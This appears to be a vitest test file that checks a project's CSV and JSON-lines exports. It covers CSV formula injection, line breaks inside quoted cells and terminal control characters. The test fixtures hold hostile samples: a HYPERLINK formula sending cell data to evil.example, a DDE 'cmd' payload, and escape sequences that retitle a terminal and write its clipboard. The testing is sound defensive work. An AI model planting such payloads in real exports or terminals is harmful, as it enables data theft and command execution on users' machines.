import type { PassThrough } from 'node:stream';
import { describe, expect } from 'vitest';
import { exportChanges, exportSnapshot } from '../src/history/export.js';
import { collect } from './helpers/export-output.js';
import { it } from './helpers/harness.js';

/*
 * OWASP's CSV injection rule: a cell that begins with =, +, -, @, tab or carriage return is
 * written with a leading ' so that a spreadsheet shows it as text instead of running it. A plain
 * number (-5, +1.5) is no formula and stays as it is; JSON lines are never changed.
 */

// Per user, the snapshot's text columns: a formula in each spelling a spreadsheet runs, and a number.
const HOSTILE = [
  { first_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', last_name: "+1+cmd|' /C calc'!A0", email: '@SUM(A1:A9)' },
  { first_name: '\t=1+1', last_name: '-2+3', email: '\r=1+1' },
  { first_name: '-5', last_name: '+1.5e3', email: 'plain@example.com' },
];
const FIELDS = { first_name: 'firstName', last_name: 'lastName', email: 'email' } as const;

/** The cells of one CSV line, unquoted (enough here: no line break inside a quoted cell but \r). */
function cells(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
    const raw = m[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return out;
}

describe('CSV exports and spreadsheets', () => {
  it('write a cell that a spreadsheet would run as a formula as text; numbers and JSON lines as they are', async ({ startHarness }) => {
    const h = await startHarness({ usersPerCompany: 3, partnerCompanies: 0, integrationUsers: 0 });
    const logins = h.sim.users('_host').map((u) => String(u.login));
    HOSTILE.forEach((values, i) => {
      h.sim.updateUser('_host', logins[i]!, Object.fromEntries(Object.entries(values).map(([column, v]) => [FIELDS[column as keyof typeof FIELDS], v])));
    });
    h.sim.addUser('_host', { login: '@evil' });
    await h.sync();

    const csv = await collect((out) => exportSnapshot(h.t.pool, new Date(), 'csv', out));
    const [header, ...rows] = csv.split('\n').filter(Boolean);
    const names = cells(header!);
    HOSTILE.forEach((values, i) => {
      const row = rows.map(cells).find((r) => r[names.indexOf('login')] === logins[i])!;
      for (const [column, value] of Object.entries(values)) {
        // Numbers and ordinary text as they are; anything else that begins like a formula behind a '.
        const expected = /^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(value) ? `'${value}` : value;
        expect(row[names.indexOf(column)], `${column} of user ${i}`).toBe(expected);
      }
    });
    expect(rows.map(cells).find((r) => r[names.indexOf('login')] === logins[0])![names.indexOf('first_name')]).toBe(`'${HOSTILE[0]!.first_name}`);
    expect(rows.map(cells).find((r) => r[names.indexOf('login')] === logins[2])![names.indexOf('first_name')]).toBe('-5');

    // The change log's CSV too: the login cell (a diff is one JSON cell, which begins with {).
    const changes = (await collect((out) => exportChanges(h.t.pool, { after: '0' }, 'csv', out))).split('\n').filter(Boolean).map(cells);
    const loginAt = changes[0]!.indexOf('login');
    expect(
      changes
        .slice(1)
        .map((r) => r[loginAt])
        .filter((l) => l!.includes('evil')),
    ).toEqual(["'@evil"]);
    // JSON lines carry the values as stored.
    const jsonl = await collect((out) => exportSnapshot(h.t.pool, new Date(), 'jsonl', out));
    expect(jsonl).toContain(JSON.stringify(HOSTILE[0]!.first_name));
  });
});

/** The records of a CSV text as RFC 4180 reads them: a line break (CRLF, LF or CR alone) ends a record unless it is inside quotes. */
function records(csv: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' || c === '\n') {
      if (c === '\r' && csv[i + 1] === '\n') i++;
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) out.push([...row, cell]);
  return out;
}

describe('CSV cells holding a line break', () => {
  it('are quoted, as RFC 4180 asks, whether the break is CR, LF or both: each stays one cell of its record', async ({ startHarness }) => {
    const h = await startHarness({ usersPerCompany: 2, partnerCompanies: 0, integrationUsers: 0 });
    const [a, b] = h.sim.users('_host').map((u) => String(u.login));
    h.sim.updateUser('_host', a!, { firstName: 'Ann\rMarie', lastName: 'Line\nBreak' });
    h.sim.updateUser('_host', b!, { lastName: 'Both\r\nKinds' });
    await h.sync();
    const [header, ...rows] = records(await collect((out) => exportSnapshot(h.t.pool, new Date(), 'csv', out)));
    for (const row of rows) expect(row, JSON.stringify(row)).toHaveLength(header!.length);
    const cell = (login: string, column: string) => rows.find((r) => r[header!.indexOf('login')] === login)?.[header!.indexOf(column)];
    expect([cell(a!, 'first_name'), cell(a!, 'last_name'), cell(b!, 'last_name')]).toEqual(['Ann\rMarie', 'Line\nBreak', 'Both\r\nKinds']);
  });
});

describe('exports written to a terminal', () => {
  it("show CPQ's control characters as \\xNN in CSV and as \\u escapes in JSON lines, so that none acts on the terminal; to a file or pipe, they are written as they are", async ({
    startHarness,
  }) => {
    const h = await startHarness({ usersPerCompany: 1, partnerCompanies: 0, integrationUsers: 0 });
    const [login] = h.sim.users('_host').map((u) => String(u.login));
    // Retitle the window, erase the line, write the clipboard (OSC 52), and a C1 CSI.
    const lastName = 'Doe\u001b]0;owned\u0007\u001b[2K\u001b]52;c;ZXZpbA==\u0007\u009b2J\u007f';
    h.sim.updateUser('_host', login!, { lastName });
    await h.sync();
    /** Like process.stdout on a terminal. */
    const toTerminal = (write: (out: PassThrough) => Promise<unknown>) => collect((out) => write(Object.assign(out, { isTTY: true })));
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

    const csv = await toTerminal((out) => exportSnapshot(h.t.pool, new Date(), 'csv', out));
    expect(csv).not.toMatch(controls);
    expect(csv).toContain('Doe\\x1b]0;owned\\x07\\x1b[2K\\x1b]52;c;ZXZpbA==\\x07\\x9b2J\\x7f');
    const jsonl = await toTerminal((out) => exportSnapshot(h.t.pool, new Date(), 'jsonl', out));
    expect(jsonl).not.toMatch(controls);
    expect((JSON.parse(jsonl.trim()) as { last_name: string }).last_name).toBe(lastName);
    const changes = await toTerminal((out) => exportChanges(h.t.pool, { after: '0' }, 'csv', out));
    expect(changes).not.toMatch(controls);

    // A file or a pipe gets the value exactly.
    const exact = await collect((out) => exportSnapshot(h.t.pool, new Date(), 'jsonl', out));
    expect((JSON.parse(exact.trim()) as { last_name: string }).last_name).toBe(lastName);
    expect(await collect((out) => exportSnapshot(h.t.pool, new Date(), 'csv', out))).toContain(lastName);
  });
});
